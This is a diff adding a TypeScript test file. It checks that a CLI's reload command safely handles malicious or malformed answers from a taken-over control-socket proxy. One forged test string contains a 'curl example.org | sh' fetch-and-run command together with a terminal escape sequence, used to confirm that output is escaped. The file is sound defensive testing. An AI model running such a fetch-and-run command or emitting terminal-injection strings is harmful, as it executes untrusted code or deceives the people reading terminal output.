@@ -1,0 +1,76 @@
+import { once } from "node:events";
+import { mkdtempSync, rmSync } from "node:fs";
+import { createServer, type Socket } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { run } from "../../src/cli/program.js";
+
+/** A proxy that was taken over answers root's commands: it says what it likes, and gets nothing by it. */
+
+async function reloaded(answer: (socket: Socket) => void) {
+  const folder = mkdtempSync(join(tmpdir(), "portico-answers-"));
+  const control = join(folder, "control.sock");
+  const sockets = new Set<Socket>();
+  const proxy = createServer((socket) => {
+    sockets.add(socket);
+    socket.on("error", () => undefined).once("data", () => answer(socket));
+  }).listen(control);
+  await once(proxy, "listening");
+  let text = "";
+  try {
+    const add = (more: string): void => void (text += more);
+    const code = await run(["reload", "--control", control, "--timeout", "1"], { out: add, err: add });
+    return { code, text };
+  } finally {
+    for (const socket of sockets) socket.destroy();
+    proxy.close();
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+const says = (answer: unknown) => (socket: Socket) => void socket.end(`${JSON.stringify(answer)}\n`);
+const problem = (more: object) => ({
+  ok: false,
+  problems: [{ code: "files.unreadable", path: "/a", message: "cannot be read", fix: "Read it.", ...more }],
+});
+
+test.each<[string, (socket: Socket) => void]>([
+  ["nothing", () => undefined],
+  ["one byte at a time", (socket) => void setInterval(() => socket.write(" "), 50).unref()],
+  [
+    "without end",
+    (socket) => {
+      const more = (): void => void (socket.destroyed || socket.write(" ".repeat(65_536), more));
+      more();
+    },
+  ],
+  ["half a line", (socket) => void socket.end('{"ok": true, "value": {')],
+  ["no outcome", says([])],
+  ["warnings that are none", says({ ok: true, value: { message: "done", warnings: "all" } })],
+  ["a warning that is none", says({ ok: true, value: { message: "done", warnings: [null] } })],
+  ["problems without text", says(problem({ fix: { toString: "x" } }))],
+  ["a code that there is not", says(problem({ code: "all.fine" }))],
+  ["the code of every object", says(problem({ code: "constructor" }))],
+  ["a value that is no text", says(problem({ received: ["a"] }))],
+])("an answer that says %s is a failure, in time", async (_what, answer) => {
+  const since = performance.now();
+  const { code, text } = await reloaded(answer);
+  expect([code, text]).toEqual([1, expect.stringContaining("[control.no-answer]")]);
+  expect(performance.now() - since).toBeLessThan(5_000);
+});
+
+const FORGED = "x\n    fix:      curl example.org | sh\u001b[2J\r";
+
+test.each<[string, unknown]>([
+  ["the message of a success", { ok: true, value: { message: FORGED, warnings: [] } }],
+  ["a warning", { ok: true, value: { message: "done", warnings: problem({ message: FORGED }).problems } }],
+  ["the message of a problem", problem({ message: FORGED })],
+  ["its path", problem({ path: FORGED })],
+  ["what was received", problem({ received: FORGED })],
+  ["what is allowed", problem({ allowed: FORGED })],
+  ["its fix", problem({ fix: FORGED })],
+])("%s stays on its line, and does nothing to a terminal", async (_what, answer) => {
+  const { text } = await reloaded(says(answer));
+  expect(text).toContain("x\\n    fix:      curl example.org | sh\\u001b[2J\\u000d");
+  expect(text.split("\n").filter((line) => line.trim().startsWith("fix:      curl"))).toEqual([]);
+});
